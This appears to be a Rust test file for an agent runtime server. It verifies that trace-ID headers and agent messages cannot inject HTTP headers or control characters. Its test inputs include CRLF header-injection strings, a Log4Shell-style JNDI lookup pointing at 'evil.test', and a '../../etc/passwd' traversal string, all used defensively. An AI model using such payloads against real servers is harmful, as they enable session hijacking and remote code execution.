//! Header injection through trace IDs and messages.

use agent_runtime::prelude::*;

use test_support::wire::{Connection, PAYLOAD};

#[editor_agent]
async fn trace_id(trace: TraceId) -> String {
    trace.to_string()
}

/// Responds with every character that could end a line.
#[editor_agent]
async fn line_breaks(frame: Frame) -> Result<AgentResponse> {
    let text = "done\r\nSet-Cookie: a=b\r\n\r\n<html>\u{2028}\u{85}\0\u{1b}[31m";
    ensure!(frame.0 > 0, "{text}");
    Ok(AgentResponse::message(text))
}

#[tokio::test]
async fn replaces_malformed_trace_ids() {
    let server = Server::new().agents(agents![trace_id]).port(0).start().await.unwrap();
    for value in [
        &b"abc%0d%0aSet-Cookie: a=b/1"[..],
        b"abc\tdef/1",
        b"abc\xff/1",
        b"abc\xc3\xa9/1",
        b"abc,def/1",
        b"\"abc\"/1",
        b"abc=def;o=1",
        b"${jndi:ldap://evil.test}/1",
        b"../../etc/passwd/1",
        &b"a".repeat(40_000),
    ] {
        for name in [&b"X-Cloud-Trace-Context"[..], b"traceparent"] {
            let mut connection = Connection::open(server.address()).await;
            let length = PAYLOAD.len();
            let rest = format!("Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{PAYLOAD}");
            let head = b"POST /trace-id HTTP/1.1\r\nHost: a\r\n";
            connection.write([&head[..], name, b": ", value, b"\r\n", rest.as_bytes()].concat()).await;
            let response = connection.response().await.unwrap();
            let trace = response.message();
            assert!(trace.len() == 32 && trace.bytes().all(|byte| byte.is_ascii_hexdigit()), "{trace}");
            assert_eq!(response.header("x-cloud-trace-context"), Some(format!("{trace}/1;o=1").as_str()));
            assert_eq!(response.header("set-cookie"), None);
        }
    }
    // A value with a line break is not a valid header.
    for value in ["abc\rSet-Cookie: a=b/1", "abc\n Set-Cookie: a=b/1", "abc\0/1"] {
        let mut connection = Connection::open(server.address()).await;
        connection.post("/trace-id", &[("X-Cloud-Trace-Context", value)], PAYLOAD).await;
        let response = connection.response().await.unwrap();
        assert_eq!((response.status, response.header("set-cookie")), (400, None), "{value:?}");
    }
    server.stop().await;
}

#[tokio::test]
async fn line_breaks_stay_in_message() {
    let server = Server::new().agents(agents![line_breaks]).port(0).start().await.unwrap();
    for frame in [0, 1] {
        let mut connection = Connection::open(server.address()).await;
        let body = PAYLOAD.replace("\"frame\": 0", &format!("\"frame\": {frame}"));
        connection.post("/line-breaks", &[], &body).await;
        let response = connection.response().await.unwrap();
        assert_eq!(response.header("set-cookie"), None);
        assert_eq!(response.header("content-type"), Some("application/json"));
        assert!(response.message().starts_with("done\r\nSet-Cookie"), "{}", response.body);
        assert!(!response.body.contains(['\r', '\n', '\0', '\u{1b}']), "{:?}", response.body);
    }
    server.stop().await;
}
